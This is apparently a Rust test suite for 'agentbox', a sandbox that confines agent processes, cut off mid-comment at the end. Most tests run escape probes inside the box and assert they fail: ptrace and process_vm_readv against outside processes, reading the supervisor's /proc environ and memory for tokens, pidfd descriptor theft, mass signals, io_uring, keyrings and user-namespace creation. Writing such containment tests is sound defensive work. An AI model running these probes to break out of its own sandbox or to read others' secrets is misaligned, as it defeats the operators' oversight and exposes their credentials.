//! Escape suite: every test runs an escape attempt inside `agentbox run -q -- ...` and asserts
//! that it FAILS, as root and as the unprivileged user. Where the probe can safely run on the
//! host, the same probe is also run outside the box and must succeed there (the "control"), so
//! the test proves something. Variants with one layer switched off (`--simulate-kernel`) check
//! that the remaining layers still hold, and name the layer that answers (by errno).

mod common;
use common::*;

use std::collections::BTreeMap;
use std::io::Read;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

// -------------------------------------------------------------------------------------------
// Helpers
// -------------------------------------------------------------------------------------------

/// Every layer on.
const FULL: &[&str] = &[];
/// Without the namespace layer: Landlock, seccomp, capabilities and no-new-privs only.
const NO_NS: &[&str] = &["--simulate-kernel", "userns=off", "--best-effort"];
/// Without seccomp: namespaces, Landlock, capabilities.
const NO_SECCOMP: &[&str] = &["--simulate-kernel", "seccomp=off", "--best-effort"];

fn variant_name(extra: &[&str]) -> &'static str {
    if extra == FULL {
        "full"
    } else if extra == NO_NS {
        "no-namespaces"
    } else if extra == NO_SECCOMP {
        "no-seccomp"
    } else {
        "custom"
    }
}

fn python() -> &'static str {
    if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    }
}

const PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

fn as_who(c: &mut Command, who: As) {
    if who == As::User {
        if let Some((uid, gid)) = test_user() {
            c.uid(uid).gid(gid);
        }
    }
}

fn uid_of(who: As) -> u32 {
    match (who, test_user()) {
        (As::User, Some((u, _))) => u,
        // SAFETY: getuid cannot fail.
        _ => unsafe { libc::getuid() },
    }
}

/// `agentbox run -q EXTRA -- CMD...` with the same environment as `Fixture::agentbox`.
fn boxcmd(f: &Fixture, extra: &[&str], cmd: &[&str]) -> Command {
    let mut c = Command::new(bin());
    c.arg("run")
        .arg("-q")
        .args(extra)
        .arg("--")
        .args(cmd)
        .current_dir(&f.ws)
        .env_clear()
        .env("PATH", PATH)
        .env("HOME", &f.home)
        .env("TERM", "xterm")
        .env("LANG", "C.UTF-8")
        .env("TOKENIZERS_PARALLELISM", "false")
        .env("XDG_CONFIG_HOME", f.home.join(".config"));
    for (k, v) in secrets() {
        c.env(k, v);
    }
    as_who(&mut c, f.owner);
    c
}

/// Spawn with stdin from /dev/null, collect output, kill after `secs`; returns the output and
/// agentbox's host pid.
fn spawn_wait(mut c: Command, secs: u64) -> (Output, u32) {
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = c.spawn().expect("spawn");
    collect(&mut child, secs)
}

fn collect(child: &mut Child, secs: u64) -> (Output, u32) {
    let pid = child.id();
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let t1 = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = so.read_to_end(&mut v);
        v
    });
    let t2 = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = se.read_to_end(&mut v);
        v
    });
    let deadline = Instant::now() + Duration::from_secs(secs);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("timed out after {secs}s: {child:?}");
        }
        std::thread::sleep(Duration::from_millis(3));
    };
    let out = Output {
        status,
        stdout: t1.join().unwrap(),
        stderr: t2.join().unwrap(),
    };
    (out, pid)
}

/// Run a command in the box; returns output and agentbox's pid.
fn run_box_pid(f: &Fixture, extra: &[&str], cmd: &[&str]) -> (Output, u32) {
    let mut c = boxcmd(f, extra, cmd);
    c.stdin(Stdio::null());
    let r = spawn_wait(c, 20);
    assert_no_secret(&r.0);
    r
}

fn run_box(f: &Fixture, extra: &[&str], cmd: &[&str]) -> Output {
    run_box_pid(f, extra, cmd).0
}

fn sh_box(f: &Fixture, extra: &[&str], script: &str) -> Output {
    run_box(f, extra, &["sh", "-c", script])
}

/// The same shell script on the host, as `who`, in `cwd`.
fn sh_host(who: As, cwd: &Path, script: &str) -> Output {
    let mut c = Command::new("sh");
    c.args(["-c", script])
        .current_dir(cwd)
        .env_clear()
        .env("PATH", PATH)
        .stdin(Stdio::null());
    as_who(&mut c, who);
    spawn_wait(c, 20).0
}

/// Syscall numbers for the probes, from the build architecture's table.
fn nr_table() -> String {
    let mut v: Vec<(&str, i64)> = vec![
        ("ptrace", libc::SYS_ptrace),
        ("process_vm_readv", libc::SYS_process_vm_readv),
        ("process_vm_writev", libc::SYS_process_vm_writev),
        ("pidfd_open", libc::SYS_pidfd_open),
        ("pidfd_getfd", libc::SYS_pidfd_getfd),
        ("io_uring_setup", libc::SYS_io_uring_setup),
        ("keyctl", libc::SYS_keyctl),
        ("add_key", libc::SYS_add_key),
        ("request_key", libc::SYS_request_key),
        ("unshare", libc::SYS_unshare),
        ("clone", libc::SYS_clone),
        ("clone3", libc::SYS_clone3),
        ("mount", libc::SYS_mount),
        ("umount2", libc::SYS_umount2),
        ("chroot", libc::SYS_chroot),
        ("pivot_root", libc::SYS_pivot_root),
        ("setns", libc::SYS_setns),
        ("bpf", libc::SYS_bpf),
        ("perf_event_open", libc::SYS_perf_event_open),
        ("userfaultfd", libc::SYS_userfaultfd),
        ("init_module", libc::SYS_init_module),
        ("finit_module", libc::SYS_finit_module),
        ("kexec_load", libc::SYS_kexec_load),
        ("reboot", libc::SYS_reboot),
        ("syslog", libc::SYS_syslog),
        ("open_by_handle_at", libc::SYS_open_by_handle_at),
        ("name_to_handle_at", libc::SYS_name_to_handle_at),
        ("ioctl", libc::SYS_ioctl),
        ("kill", libc::SYS_kill),
        ("getpid", libc::SYS_getpid),
        ("sethostname", libc::SYS_sethostname),
        ("mknodat", libc::SYS_mknodat),
        ("fsopen", libc::SYS_fsopen),
        ("open_tree", libc::SYS_open_tree),
        ("move_mount", libc::SYS_move_mount),
    ];
    v.sort();
    let items: Vec<String> = v.iter().map(|(k, n)| format!("'{k}': {n}")).collect();
    format!("NR = {{{}}}\n", items.join(", "))
}

/// Markers that must never be read inside the box.
const LEAK_MARKERS: &[&str] = &[
    "CREDENTIAL-FILE-CONTENT",
    "outside-secret-value",
    "dotenv-secret-value",
    "left-behind-secret",
    "pipe-secret-value",
    "argv-secret-value",
    "socket-secret-value",
];

const PRELUDE: &str = r#"
import ctypes, errno, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def en(n):
    return errno.errorcode.get(n, str(n))
def sc(name, *a):
    conv = [ctypes.c_long(x) if isinstance(x, int) else x for x in a]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR[name]), *conv)
    return "OK" if r != -1 else en(ctypes.get_errno())
def report(key, fn):
    try:
        r = fn()
        if r is None or r is True:
            r = "OK"
        elif r is False:
            r = "FALSE"
    except OSError as ex:
        r = en(ex.errno) if ex.errno else "OSERR"
    except Exception as ex:
        r = "EXC-" + type(ex).__name__
    print(key + "=" + str(r), flush=True)
def classify(data):
    if any(m in data for m in LEAKS):
        return "LEAK"
    return "DATA" if data else "EMPTY"
def rd(p):
    with open(p, "rb") as fh:
        return classify(fh.read(65536))
def rdfd(fd):
    os.set_blocking(fd, False)
    try:
        return classify(os.read(fd, 65536))
    except BlockingIOError:
        return "EMPTY"
def recv_all(s):
    s.settimeout(2)
    return classify(s.recv(4096))
A = sys.argv[1:]
"#;

fn py_script(body: &str) -> String {
    // Hex-encoded, so that the probe's own command line (visible in /proc) holds no marker.
    let leaks: Vec<String> = LEAK_MARKERS
        .iter()
        .map(|m| {
            let hex: String = m.bytes().map(|b| format!("{b:02x}")).collect();
            format!("bytes.fromhex('{hex}')")
        })
        .collect();
    format!(
        "{}LEAKS = [{}]\n{PRELUDE}\n{body}\nprint('DONE=1', flush=True)\n",
        nr_table(),
        leaks.join(", ")
    )
}

/// Run the python `body` in the box.
fn py_box(f: &Fixture, extra: &[&str], body: &str, args: &[&str]) -> (Output, Vals) {
    let script = py_script(body);
    let mut cmd = vec![python(), "-c", &script];
    cmd.extend_from_slice(args);
    let out = run_box(f, extra, &cmd);
    let v = vals(&out);
    (out, v)
}

/// Run the python `body` on the host (the control), as `who`.
fn py_host(who: As, cwd: &Path, body: &str, args: &[&str]) -> (Output, Vals) {
    let mut c = Command::new(python());
    c.arg("-c")
        .arg(py_script(body))
        .args(args)
        .current_dir(cwd)
        .env_clear()
        .env("PATH", PATH)
        .stdin(Stdio::null());
    as_who(&mut c, who);
    let out = spawn_wait(c, 20).0;
    let v = vals(&out);
    (out, v)
}

type Vals = BTreeMap<String, String>;

fn vals(out: &Output) -> Vals {
    stdout(out)
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// `key` must be one of `allowed`.
fn want(ctx: &str, out: &Output, v: &Vals, key: &str, allowed: &[&str]) {
    let got = v.get(key).map(String::as_str).unwrap_or("<missing>");
    assert!(
        allowed.contains(&got),
        "{ctx}: {key}={got}, expected one of {allowed:?}\nstdout:\n{}\nstderr:\n{}",
        stdout(out),
        stderr(out)
    );
}

fn check(cond: bool, ctx: &str, out: &Output) {
    assert!(
        cond,
        "{ctx}\nstatus: {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        stdout(out),
        stderr(out)
    );
}

/// Probe in the box under each variant: `key` must be one of the allowed values.
fn expect_box(
    f: &Fixture,
    name: &str,
    body: &str,
    args: &[&str],
    key: &str,
    cases: &[(&[&str], &[&str])],
) {
    for (extra, allowed) in cases {
        let (out, v) = py_box(f, extra, body, args);
        want(
            &format!("[{:?}/{}] {name}", f.owner, variant_name(extra)),
            &out,
            &v,
            key,
            allowed,
        );
        want(
            &format!(
                "[{:?}/{}] {name} probe completed",
                f.owner,
                variant_name(extra)
            ),
            &out,
            &v,
            "DONE",
            &["1"],
        );
    }
}

/// The control: the same probe succeeds on the host.
fn expect_host(who: As, cwd: &Path, name: &str, body: &str, args: &[&str], key: &str, ok: &[&str]) {
    let (out, v) = py_host(who, cwd, body, args);
    want(&format!("[{who:?}/host control] {name}"), &out, &v, key, ok);
}

/// A host file removed when the test ends, even when it fails.
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// A process outside the box, killed when dropped.
struct Outside {
    child: Child,
}

impl Outside {
    fn sleep(who: As) -> Outside {
        let mut c = Command::new("sleep");
        c.arg("30");
        Outside::spawn(who, c)
    }

    fn spawn(who: As, mut c: Command) -> Outside {
        as_who(&mut c, who);
        c.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let child = c.spawn().expect("spawn outside process");
        // Let it exec, so /proc shows the final image.
        let deadline = Instant::now() + Duration::from_secs(2);
        let prog = c.get_program().to_string_lossy().into_owned();
        let base = prog.rsplit('/').next().unwrap_or(&prog).to_string();
        while Instant::now() < deadline {
            let comm =
                std::fs::read_to_string(format!("/proc/{}/comm", child.id())).unwrap_or_default();
            if comm.trim() == base.chars().take(15).collect::<String>() {
                break;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        Outside { child }
    }

    fn pid(&self) -> String {
        self.child.id().to_string()
    }

    fn alive(&mut self) -> bool {
        self.child.try_wait().unwrap().is_none()
    }

    /// Start address of its first mapping (for process_vm_readv).
    fn first_mapping(&self) -> String {
        let maps = std::fs::read_to_string(format!("/proc/{}/maps", self.child.id())).unwrap();
        let start = maps.split('-').next().unwrap();
        u64::from_str_radix(start, 16).unwrap().to_string()
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn ptrace_possible_on_host() -> bool {
    std::fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope")
        .map(|s| s.trim() == "0")
        .unwrap_or(true)
}

/// A fixture like `Fixture::new`, but in /var/tmp: workspace and HOME outside the box's private
/// /tmp, as on a real machine, so HOME is reachable by path and only Landlock keeps it out.
fn fixture_outside_tmp(owner: As) -> Fixture {
    let dir = tempfile::Builder::new()
        .prefix("agentbox-t-")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let home = dir.path().join("home");
    let ws = dir.path().join("work/repo");
    std::fs::create_dir_all(&ws).unwrap();
    for f in CRED_FILES {
        let p = home.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "CREDENTIAL-FILE-CONTENT\n").unwrap();
    }
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    let git = |args: &[&str]| {
        let st = Command::new("git")
            .args(args)
            .current_dir(&ws)
            .env("HOME", &home)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success(), "git {args:?}");
    };
    git(&["init", "-q", "-b", "feature/test"]);
    git(&["config", "user.email", "t@example.invalid"]);
    git(&["config", "user.name", "T"]);
    std::fs::write(ws.join("README.md"), "hello\n").unwrap();
    git(&["add", "README.md"]);
    git(&["commit", "-q", "-m", "init"]);
    if owner == As::User {
        if let Some((uid, gid)) = test_user() {
            let _ = Command::new("chown")
                .arg("-R")
                .arg(format!("{uid}:{gid}"))
                .arg(dir.path())
                .status();
        }
    }
    Fixture {
        dir,
        home,
        ws,
        owner,
    }
}

/// Both layouts: the shared fixture (everything under /tmp, which the box masks) and one with
/// HOME and the workspace outside /tmp (only Landlock keeps HOME out).
fn layouts(who: As) -> Vec<(&'static str, Fixture)> {
    vec![
        ("tmp", Fixture::new(who)),
        ("var", fixture_outside_tmp(who)),
    ]
}

fn chown_to(p: &Path, who: As) {
    if who == As::User {
        if let Some((uid, gid)) = test_user() {
            let _ = std::os::unix::fs::chown(p, Some(uid), Some(gid));
        }
    }
}

/// Run `body` in the box with `SUP` = agentbox's own host pid (the supervisor, which holds the
/// unscrubbed environment), handed in through a file written after the launch.
fn py_box_supervisor(f: &Fixture, extra: &[&str], body: &str) -> (Output, Vals, u32) {
    let pidfile = f.ws.join(".sup-pid");
    let _ = std::fs::remove_file(&pidfile);
    let wait = r#"
SUP = None
for _ in range(1000):
    try:
        SUP = int(open(".sup-pid").read())
        break
    except Exception:
        time.sleep(0.005)
print("SUP_SEEN=" + ("1" if SUP else "0"), flush=True)
"#;
    let script = py_script(&format!("{wait}\n{body}"));
    let mut c = boxcmd(f, extra, &[python(), "-c", &script]);
    c.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = c.spawn().unwrap();
    let tmp = f.ws.join(".sup-pid.tmp");
    std::fs::write(&tmp, child.id().to_string()).unwrap();
    std::fs::rename(&tmp, &pidfile).unwrap();
    let (out, pid) = collect(&mut child, 20);
    let _ = std::fs::remove_file(&pidfile);
    assert_no_secret(&out);
    let v = vals(&out);
    want("supervisor pid handed in", &out, &v, "SUP_SEEN", &["1"]);
    (out, v, pid)
}

// -------------------------------------------------------------------------------------------
// Other processes: ptrace, process_vm_readv, pidfd, signals, /proc
// -------------------------------------------------------------------------------------------

const PTRACE_ATTACH: &str = "report('r', lambda: sc('ptrace', 16, int(A[0]), 0, 0))";
const PTRACE_SEIZE: &str = "report('r', lambda: sc('ptrace', 0x4206, int(A[0]), 0, 0))";
const VM_READV: &str = r#"
def vm():
    buf = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
    remote = (ctypes.c_void_p * 2)(int(A[1]), 16)
    return sc('process_vm_readv', int(A[0]), local, 1, remote, 1, 0)
report('r', vm)
"#;

// PTRACE_ATTACH to a process outside the box: seccomp denies ptrace (EPERM); without seccomp
// the pid namespace hides the target (ESRCH).
#[test]
fn ptrace_attach_outside_process() {
    for who in who() {
        let f = Fixture::new(who);
        if ptrace_possible_on_host() {
            let s = Outside::sleep(who);
            expect_host(
                who,
                &f.ws,
                "ptrace attach",
                PTRACE_ATTACH,
                &[&s.pid()],
                "r",
                &["OK"],
            );
        }
        let mut s = Outside::sleep(who);
        expect_box(
            &f,
            "ptrace attach outside",
            PTRACE_ATTACH,
            &[&s.pid()],
            "r",
            &[
                (FULL, &["EPERM"]),
                (NO_NS, &["EPERM"]),
                (NO_SECCOMP, &["ESRCH"]),
            ],
        );
        assert!(s.alive());
    }
}

// PTRACE_SEIZE (no stop, quieter than ATTACH) against a process outside the box.
#[test]
fn ptrace_seize_outside_process() {
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        if ptrace_possible_on_host() {
            expect_host(
                who,
                &f.ws,
                "ptrace seize",
                PTRACE_SEIZE,
                &[&s.pid()],
                "r",
                &["OK"],
            );
        }
        let s = Outside::sleep(who);
        expect_box(
            &f,
            "ptrace seize outside",
            PTRACE_SEIZE,
            &[&s.pid()],
            "r",
            &[
                (FULL, &["EPERM"]),
                (NO_NS, &["EPERM"]),
                (NO_SECCOMP, &["ESRCH"]),
            ],
        );
    }
}

// Reading another process's memory with process_vm_readv.
#[test]
fn process_vm_readv_outside_process() {
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        let addr = s.first_mapping();
        if ptrace_possible_on_host() {
            expect_host(
                who,
                &f.ws,
                "process_vm_readv",
                VM_READV,
                &[&s.pid(), &addr],
                "r",
                &["OK"],
            );
        }
        expect_box(
            &f,
            "process_vm_readv outside",
            VM_READV,
            &[&s.pid(), &addr],
            "r",
            &[
                (FULL, &["EPERM"]),
                (NO_NS, &["EPERM"]),
                (NO_SECCOMP, &["ESRCH"]),
            ],
        );
    }
}

const SUPERVISOR_PROBES: &str = r#"
report('attach', lambda: sc('ptrace', 16, SUP, 0, 0))
report('seize', lambda: sc('ptrace', 0x4206, SUP, 0, 0))
def vm():
    maps = open('/proc/%d/maps' % SUP).read()
    addr = int(maps.split('-')[0], 16)
    buf = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
    remote = (ctypes.c_void_p * 2)(addr, 16)
    return sc('process_vm_readv', SUP, local, 1, remote, 1, 0)
report('vm_readv', vm)
def environ():
    d = open('/proc/%d/environ' % SUP, 'rb').read()
    return 'LEAK' if b'GITHUB_TOKEN' in d or b'DEPLOY_PASSWORD' in d else classify(d)
report('environ', environ)
report('mem', lambda: open('/proc/%d/mem' % SUP, 'rb').read(1))
report('root', lambda: os.listdir('/proc/%d/root/' % SUP))
report('cwd', lambda: os.listdir('/proc/%d/cwd/' % SUP))
def fds():
    for n in range(0, 64):
        try:
            os.close(os.open('/proc/%d/fd/%d' % (SUP, n), os.O_RDONLY | os.O_NONBLOCK))
            return 'OPENED-%d' % n
        except OSError as ex:
            if ex.errno not in (errno.ENOENT,):
                return en(ex.errno)
    return 'ENOENT'
report('fd', fds)
try:
    print('fd_list=' + ','.join(os.listdir('/proc/%d/fd/' % SUP)))
except OSError as ex:
    print('fd_list=' + en(ex.errno))
report('kill0', lambda: sc('kill', SUP, 0))
report('killkill', lambda: sc('kill', SUP, 9))
"#;

// The supervisor (agentbox itself, outside the box, its environment still full of secrets):
// ptrace, process_vm_readv, /proc/<pid>/{environ,mem,root,cwd,fd} and signals, by its host pid.
#[test]
fn supervisor_is_out_of_reach() {
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS, NO_SECCOMP] {
            let (out, v, _) = py_box_supervisor(&f, extra, SUPERVISOR_PROBES);
            let ctx = format!("[{who:?}/{}] supervisor", variant_name(extra));
            // Fully contained: the pid does not exist in the box's pid namespace.
            let hidden: &[&str] = &["ENOENT", "ESRCH"];
            let (ptrace, procfs, signal): (&[&str], &[&str], &[&str]) = if extra == NO_NS {
                // Visible pid: seccomp (ptrace family), Landlock's ptrace and scope rules and the
                // supervisor being non-dumpable (/proc), Landlock signal scope (kill).
                (&["EPERM"], &["EACCES", "EPERM"], &["EPERM"])
            } else if extra == NO_SECCOMP {
                (&["ESRCH"], hidden, hidden)
            } else {
                (&["EPERM"], hidden, hidden)
            };
            for k in ["attach", "seize"] {
                want(&ctx, &out, &v, k, ptrace);
            }
            // process_vm_readv needs /proc/<pid>/maps first, so either layer answers.
            want(
                &ctx,
                &out,
                &v,
                "vm_readv",
                &["EPERM", "ESRCH", "ENOENT", "EACCES"],
            );
            for k in ["environ", "mem", "root", "cwd", "fd"] {
                want(&ctx, &out, &v, k, procfs);
            }
            for k in ["kill0", "killkill"] {
                want(&ctx, &out, &v, k, signal);
            }
            check(
                out.status.code() == Some(0),
                &format!("{ctx}: agentbox must survive and pass the exit status"),
                &out,
            );
        }
    }
}

// The box's own pid 1 is agentbox's init process (it relays the status to the supervisor):
// not traceable, its memory not readable.
#[test]
fn box_init_process_is_out_of_reach() {
    for who in who() {
        let f = Fixture::new(who);
        let body = r#"
report('attach', lambda: sc('ptrace', 16, 1, 0, 0))
report('mem', lambda: open('/proc/1/mem', 'rb').read(1))
report('environ', lambda: open('/proc/1/environ', 'rb').read(1))
def getfd():
    pfd = libc.syscall(NR['pidfd_open'], 1, 0)
    if pfd < 0:
        return en(ctypes.get_errno())
    return sc('pidfd_getfd', pfd, 3, 0)
report('pidfd_getfd', getfd)
"#;
        let (out, v) = py_box(&f, FULL, body, &[]);
        let ctx = format!("[{who:?}] box init");
        want(&ctx, &out, &v, "attach", &["EPERM"]);
        want(&ctx, &out, &v, "mem", &["EACCES", "EPERM"]);
        want(&ctx, &out, &v, "environ", &["EACCES", "EPERM"]);
        want(&ctx, &out, &v, "pidfd_getfd", &["EPERM"]);
    }
}

// pidfd_getfd: stealing a descriptor from another process (it has ptrace's access check).
#[test]
fn pidfd_getfd_steals_nothing() {
    let body = r#"
def getfd():
    pfd = libc.syscall(NR['pidfd_open'], int(A[0]), 0)
    if pfd < 0:
        return 'open-' + en(ctypes.get_errno())
    return sc('pidfd_getfd', pfd, 0, 0)
report('r', getfd)
"#;
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        if ptrace_possible_on_host() {
            expect_host(who, &f.ws, "pidfd_getfd", body, &[&s.pid()], "r", &["OK"]);
        }
        expect_box(
            &f,
            "pidfd_getfd outside",
            body,
            &[&s.pid()],
            "r",
            &[
                (FULL, &["open-ESRCH"]),
                (NO_NS, &["EPERM"]),
                (NO_SECCOMP, &["open-ESRCH"]),
            ],
        );
    }
}

// Signals to a process outside the box by host pid: kill -0 and kill -TERM must fail, and the
// process must still be alive after.
#[test]
fn signals_to_outside_process_by_pid() {
    for who in who() {
        let f = Fixture::new(who);
        let mut s = Outside::sleep(who);
        let pid = s.pid();
        let out = sh_host(who, &f.ws, &format!("kill -0 {pid} && echo ok"));
        check(
            stdout(&out).contains("ok"),
            "host control: kill -0 works",
            &out,
        );
        for extra in [FULL, NO_NS, NO_SECCOMP] {
            let out = sh_box(
                &f,
                extra,
                &format!("kill -0 {pid} && echo zero-ok; kill -TERM {pid} && echo term-ok; kill -KILL {pid} && echo kill-ok; echo end"),
            );
            let ctx = format!("[{who:?}/{}] kill outside pid", variant_name(extra));
            check(
                stdout(&out).contains("end") && !stdout(&out).contains("-ok"),
                &ctx,
                &out,
            );
            std::thread::sleep(Duration::from_millis(20));
            assert!(s.alive(), "{ctx}: the outside process died");
        }
        // With a visible pid, Landlock's signal scope answers (EPERM), not a missing process.
        let body = "report('r', lambda: sc('kill', int(A[0]), 0))";
        expect_box(
            &f,
            "kill(pid, 0)",
            body,
            &[&pid],
            "r",
            &[(FULL, &["ESRCH"]), (NO_NS, &["EPERM"])],
        );
        assert!(s.alive());
    }
}

// Signals by process group (kill 0): the box shares agentbox's process group, which here also
// holds a process outside the box. The pid namespace does not confine process-group signals;
// only Landlock's signal scope does. (The group is the test's own: a leak hits nothing else.)
#[test]
fn signals_to_process_group() {
    for who in who() {
        let f = Fixture::new(who);
        for extra in [FULL, NO_NS] {
            let mut leader = Command::new("sleep");
            leader.arg("30").process_group(0);
            let mut s = Outside::spawn(who, leader);
            let pgid: i32 = s.pid().parse().unwrap();
            let mut c = boxcmd(
                &f,
                extra,
                &[
                    "sh",
                    "-c",
                    "trap '' TERM HUP USR1 USR2 INT; kill -TERM 0; kill -HUP 0; kill -USR1 0; kill -INT 0; echo survived; kill -KILL 0",
                ],
            );
            c.process_group(pgid).stdin(Stdio::null());
            let (out, _) = spawn_wait(c, 20);
            let ctx = format!("[{who:?}/{}] kill 0", variant_name(extra));
            // The box's shell is killed by its own `kill -KILL 0`; agentbox reports 137 as an
            // exit code, so the supervisor itself was not killed.
            check(
                out.status.code() == Some(137),
                &format!("{ctx}: agentbox exit"),
                &out,
            );
            check(
                out.status.signal().is_none(),
                &format!("{ctx}: supervisor killed"),
                &out,
            );
            std::thread::sleep(Duration::from_millis(20));
            assert!(
                s.alive(),
                "{ctx}: the outside process in the same process group died"
            );
        }
    }
}

// kill(-1, sig) signals every process the caller may signal. Probed with signal 0 on each
// visible pid (a real `kill -KILL -1` that got through would take down the whole machine's
// processes of that user, root's included): nothing outside the box may be signalable.
#[test]
fn signals_to_everyone_reach_nothing_outside() {
    let body = r#"
me = os.getpid()
reach = []
for p in os.listdir('/proc'):
    if not p.isdigit() or int(p) in (me, 1):
        continue
    try:
        os.kill(int(p), 0)
        reach.append(p)
    except OSError:
        pass
print('reach=' + (','.join(reach) or 'none'))
report('sleep', lambda: sc('kill', int(A[0]), 0))
"#;
    for who in who() {
        let f = Fixture::new(who);
        let s = Outside::sleep(who);
        let (out, v) = py_host(who, &f.ws, body, &[&s.pid()]);
        want("host control", &out, &v, "sleep", &["OK"]);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[&s.pid()]);
            let ctx = format!("[{who:?}/{}] kill -1 reach", variant_name(extra));
            want(&ctx, &out, &v, "reach", &["none"]);
            want(&ctx, &out, &v, "sleep", &["ESRCH", "EPERM"]);
        }
    }
}

// Another process's argv and environment (secrets on a command line or in an env var) must not
// be visible by scanning /proc.
#[test]
fn other_processes_cmdline_and_environ_invisible() {
    let body = r#"
found = []
for p in os.listdir('/proc'):
    if not p.isdigit():
        continue
    for f in ('cmdline', 'environ'):
        try:
            d = open('/proc/%s/%s' % (p, f), 'rb').read()
        except OSError:
            continue
        if classify(d) == 'LEAK':
            found.append(p + '/' + f)
print('found=' + (','.join(found) or 'none'))
report('direct_cmdline', lambda: rd('/proc/%s/cmdline' % A[0]))
report('direct_environ', lambda: rd('/proc/%s/environ' % A[0]))
"#;
    for who in who() {
        let f = Fixture::new(who);
        let mut c = Command::new("sleep");
        c.arg0("sleep-argv-secret-value").arg("30");
        c.env_clear()
            .env("OUTSIDE_SECRET", "outside-secret-value-123");
        let s = Outside::spawn(who, c);
        let (out, v) = py_host(who, &f.ws, body, &[&s.pid()]);
        want("host control", &out, &v, "direct_cmdline", &["LEAK"]);
        want("host control", &out, &v, "direct_environ", &["LEAK"]);
        // Without the pid namespace, cmdline of other processes is world-readable by design of
        // procfs (no hidepid); the full sandbox must hide both.
        let (out, v) = py_box(&f, FULL, body, &[&s.pid()]);
        let ctx = format!("[{who:?}] /proc scan");
        want(&ctx, &out, &v, "found", &["none"]);
        want(&ctx, &out, &v, "direct_cmdline", &["ENOENT"]);
        want(&ctx, &out, &v, "direct_environ", &["ENOENT"]);
        let (out, v) = py_box(&f, NO_NS, body, &[&s.pid()]);
        want(
            &format!("{ctx} no-ns"),
            &out,
            &v,
            "direct_environ",
            &["EACCES", "EPERM"],
        );
    }
}

// -------------------------------------------------------------------------------------------
// Kernel surface: io_uring, keyrings, namespaces, mounts, chroot, setns, bpf, modules...
// -------------------------------------------------------------------------------------------

// io_uring does I/O the seccomp filter never sees.
#[test]
fn io_uring_setup_denied() {
    let body = r#"
params = ctypes.create_string_buffer(120)
report('r', lambda: sc('io_uring_setup', 4, params))
"#;
    for who in who() {
        let f = Fixture::new(who);
        expect_host(who, &f.ws, "io_uring_setup", body, &[], "r", &["OK"]);
        expect_box(
            &f,
            "io_uring_setup",
            body,
            &[],
            "r",
            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
        );
    }
}

// Kernel keyrings are not namespaced: the person's user keyring must stay out of reach.
#[test]
fn keyctl_and_add_key_denied() {
    let body = r#"
KEY_SPEC_USER_KEYRING = -4
report('get_keyring', lambda: sc('keyctl', 0, KEY_SPEC_USER_KEYRING, 0))
report('add_key', lambda: sc('add_key', b'user', b'agentbox-escape-test', b'x', 1, -2))
report('request_key', lambda: sc('request_key', b'user', b'agentbox-escape-none', None, 0))
"#;
    for who in who() {
        let f = Fixture::new(who);
        expect_host(who, &f.ws, "keyctl", body, &[], "get_keyring", &["OK"]);
        for extra in [FULL, NO_NS] {
            let (out, v) = py_box(&f, extra, body, &[]);
            let ctx = format!("[{who:?}/{}] keyrings", variant_name(extra));
            for k in ["get_keyring", "add_key", "request_key"] {
                want(&ctx, &out, &v, k, &["EPERM"]);
            }
        }
    }
}

// A new user namespace through util-linux unshare(1).
#[test]
fn unshare_user_namespace_cli_denied() {
    for who in who() {
        let f = Fixture::new(who);
        let out = sh_host(who, &f.ws, "unshare -U -r id -u && echo made-userns");
        check(
            stdout(&out).contains("made-userns"),
            "host control: unshare -U",
            &out,
        );
        for extra in [FULL, NO_NS] {
            let out = sh_box(
                &f,
                extra,
                "unshare -U -r id -u && echo made-userns; unshare -U true; echo rc=$?",
            );
            let ctx = format!("[{who:?}/{}] unshare -U", variant_name(extra));
            check(
                !stdout(&out).contains("made-userns")
                    && stdout(&out).contains("rc=1")
                    && stderr(&out).contains("Operation not permitted"),
                &ctx,
                &out,
            );
        }
    }
}

// A new user namespace with the raw unshare(2) and clone(2) system calls (python 3.11 has no
